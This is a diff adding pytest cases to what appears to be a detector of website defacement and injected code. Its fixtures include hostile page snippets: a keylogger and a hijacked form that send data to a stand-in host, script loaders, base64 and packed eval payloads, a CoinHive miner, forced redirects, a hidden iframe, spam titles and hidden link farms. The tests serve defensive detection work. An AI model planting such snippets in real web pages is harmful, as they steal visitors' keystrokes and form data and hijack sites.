@@ -180,3 +180,119 @@ def test_what_may_be_a_claim_is_at_least_suspect(name: str) -> None:
 
 def test_a_page_equals_itself_however_hostile() -> None:
     assert judged(PAGE).verdict is Verdict.INTACT
+
+
+def foreign(tag: str) -> str:
+    return f'<{tag} src="https://cdn.velvet-owl.example/o.js"></{tag}>'
+
+
+CODE = {
+    "foreign script": (placed(END, foreign("script")), "C8"),
+    "foreign frame of no size": (
+        placed(END, '<iframe src="//velvet-owl.example/" width=0 height=0></iframe>'),
+        "C8",
+    ),
+    "script of anybody's host": (
+        placed(END, '<script src="https://raw.githubusercontent.com/o/o/x.js"></script>'),
+        "C8",
+    ),
+    "script element written from base64": (
+        script(f"document.write(atob('{b64(foreign('script'))}'))"),
+        "C8",
+    ),
+    "loader": (
+        script("var s=document.createElement('script');s.src='//velvet-owl.example/l.js'"),
+        "C8",
+    ),
+    "packed": (script("eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|')))"), "C9"),
+    "miner": (script("var m=new CoinHive.Anonymous('k');m.start()"), "C9"),
+    "handler in escapes": (
+        swapped("<body>", f"<body onload=\"eval(unescape('{percent('alert(1)' * 12)}'))\">"),
+        "C9",
+    ),
+    "key logger": (
+        script(
+            "document.onkeypress=function(e){new Image().src='https://velvet-owl.example/?'+e.key}"
+        ),
+        "C10",
+    ),
+    "form to a foreign host": (
+        swapped('action="/search"', 'action="https://velvet-owl.example/take"'),
+        "C10",
+    ),
+    "refresh": (
+        placed("</head>", '<meta http-equiv=refresh content="9;url=https://velvet-owl.example/">'),
+        "C11",
+    ),
+    "redirect after a while": (
+        script("setTimeout(function(){location.href='https://velvet-owl.example/'},9000)"),
+        "C11",
+    ),
+    "redirect on load": (
+        swapped("<body>", "<body onload=\"window.location='https://velvet-owl.example/'\">"),
+        "C11",
+    ),
+    "base": (placed("</head>", '<base href="https://velvet-owl.example/">'), "C11"),
+    "spam title": (swapped(TITLE, "<title>Slot gacor | Sonapur District"), "C12"),
+    "Japanese spam title": (swapped(TITLE, "<title>激安 スーパーコピー 通販"), "C12"),
+    "spam description": (
+        swapped("Official portal of the district", "Online casino, judi online, free spins of"),
+        "C12",
+    ),
+    "hidden links": (
+        placed(
+            END,
+            '<div style="position:absolute;left:-9999px">'
+            + "".join(f'<a href="https://pill{n}.example/">x</a>' for n in range(5))
+            + "</div>",
+        ),
+        "C13",
+    ),
+    "overlay of a foreign picture": (
+        placed(
+            END,
+            '<div style="position:fixed;width:100%;height:100%;'
+            'background:url(https://velvet-owl.example/o.png)"></div>',
+        ),
+        "C15",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", CODE)
+def test_hostile_code_on_a_page_that_stands_is_defaced_by_its_rule(name: str) -> None:
+    after, rule = CODE[name]
+    found = judged(after)
+    assert (found.verdict, found.rule) == (Verdict.DEFACED, rule), seen(found)
+
+
+CODE_NOTICED = {
+    "script after the end": f"{PAGE}<script src=/js/x.js></script>",
+    "script before the beginning": f"<script>var a=1</script>{PAGE}",
+    "tag manager": placed(
+        END, '<script src="https://www.googletagmanager.com/gtm.js?id=GTM-1"></script>'
+    ),
+    "library that anybody may publish": placed(
+        END, '<script src="https://cdn.jsdelivr.net/gh/o/o/x.js"></script>'
+    ),
+    "overlay": placed(END, '<div style="position:fixed;width:100%;height:100%"></div>'),
+    "page hidden": swapped("<body>", '<body style="display:none">'),
+    "icon of another host": swapped("/images/favicon.ico", "https://velvet-owl.example/f.ico"),
+    "link farm": placed(
+        END, "".join(f'<a href="https://farm{n}.example/">{n}</a>' for n in range(30))
+    ),
+    "title in other letters": swapped(TITLE, "<title>ブランド時計の専門店です"),
+    "a script that calls a strange host": script("fetch('https://velvet-owl.example/p')"),
+}
+
+
+@pytest.mark.parametrize("name", CODE_NOTICED)
+def test_unusual_code_is_at_least_suspect(name: str) -> None:
+    found = judged(CODE_NOTICED[name])
+    assert found.verdict in NOTICED, seen(found)
+
+
+def test_a_setting_that_names_a_host_and_calls_nothing_is_an_edit() -> None:
+    found = judged(script("var settings={docs:'https://manual.vendor.example/start'};"))
+    assert found.verdict is Verdict.EDITED, seen(found)
+    assert found.rule == "E2"
